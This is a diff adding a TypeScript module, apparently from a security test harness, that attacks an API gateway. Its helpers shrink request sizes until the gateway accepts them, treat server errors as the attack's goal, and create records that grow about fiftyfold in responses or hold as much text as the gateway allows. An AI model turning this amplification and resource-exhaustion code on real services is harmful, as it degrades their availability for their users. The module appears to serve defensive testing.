@@ -1,0 +1,55 @@
+import type { AttackTarget } from '../attack.target';
+
+/** What a request answered. */
+interface Answer {
+  status: number;
+  body: string;
+}
+
+/**
+ * Sends a request again and again, each a fifth smaller than the one before, until the gateway takes it: the limits that it has
+ * are for it to know.
+ *
+ * @param send sends one of this size
+ * @throws Error if even one of size 1 is refused
+ */
+export async function largest(
+  from: number,
+  send: (size: number) => Promise<Answer>,
+): Promise<{ size: number; body: string }> {
+  for (let size = from; size >= 1; size = Math.floor(size * 0.8)) {
+    const { status, body } = await send(size);
+    // A server error is no limit, but what the attack is after.
+    if (status < 400 || status >= 500) return { size, body };
+  }
+  throw new Error('the gateway refuses the request at any size');
+}
+
+/** Creates a record of numbers that are 50 times as long in a response as in a request. @returns its id */
+export async function createTinyNumbers(target: AttackTarget): Promise<string> {
+  return createWith(target, 36_000, (size) => ({ numbers: Array<number>(size).fill(Number.MIN_VALUE) }));
+}
+
+/** Creates a record that holds as much text as the gateway takes. @returns its id */
+export async function createLargeText(target: AttackTarget): Promise<string> {
+  const id = await createWith(target, 250_000, (size) => ({ text: 'x'.repeat(size) }));
+  const add = (size: number): object => ({ extended: { more: 'x'.repeat(size) } });
+  await largest(250_000, (size) => call(target, 'PATCH', `organization/${id}`, add(size)));
+  return id;
+}
+
+async function createWith(target: AttackTarget, from: number, extended: (size: number) => object): Promise<string> {
+  const content = (size: number): object => ({ default: { name: 'Large' }, extended: extended(size) });
+  const { body } = await largest(from, (size) => call(target, 'POST', 'organization', content(size)));
+  return (JSON.parse(body) as { id: string }).id; // the contract's record
+}
+
+/** One request, of a caller that behaves. */
+export async function call(target: AttackTarget, method: string, path: string, body: object): Promise<Answer> {
+  const response = await fetch(target.url + target.path(path), {
+    method,
+    headers: { 'content-type': 'application/json', 'x-api-key': target.intruder.apiKeys[0] },
+    body: JSON.stringify(body),
+  });
+  return { status: response.status, body: await response.text() };
+}
